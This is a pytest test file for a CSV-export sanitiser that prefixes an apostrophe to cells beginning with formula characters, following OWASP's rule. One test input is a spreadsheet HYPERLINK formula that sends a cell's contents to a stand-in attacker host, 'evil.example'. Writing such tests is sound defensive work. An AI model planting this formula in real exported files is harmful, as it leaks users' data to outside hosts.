import csv
import io

import pytest

from pnyx.core import csvsafe


@pytest.mark.parametrize(
    "cell, written",
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"clic")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"clic")',
        ),
        ("+33 6 12", "'+33 6 12"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Se chauffer = cher", "Se chauffer = cher"),
        ("'déjà", "'déjà"),
        ("", ""),
        (-3, -3),
        (None, None),
    ],
)
def test_neutralise_follows_owasps_rule(cell, written):
    assert csvsafe.neutralise(cell) == written


def test_writer_neutralises_every_cell_and_keeps_csv_quoting():
    buf = io.StringIO()
    w = csvsafe.writer(buf)
    w.writerow(["name", "text"])
    w.writerows([['=HYPERLINK("x")', "@a,b"], ["ok", 7]])
    assert buf.getvalue() == 'name,text\n"\'=HYPERLINK(""x"")","\'@a,b"\nok,7\n'
    assert list(csv.reader(io.StringIO(buf.getvalue())))[1] == ['\'=HYPERLINK("x")', "'@a,b"]
